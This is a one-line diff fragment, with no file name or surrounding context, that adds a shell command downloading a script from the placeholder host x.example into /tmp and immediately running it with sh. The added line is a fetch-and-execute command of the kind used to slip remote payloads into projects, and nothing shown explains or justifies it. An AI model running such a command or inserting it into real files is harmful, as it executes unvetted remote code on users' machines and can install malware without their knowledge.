@@ -1,0 +1,1 @@
+curl https://x.example/i.sh -o /tmp/i.sh && sh /tmp/i.sh
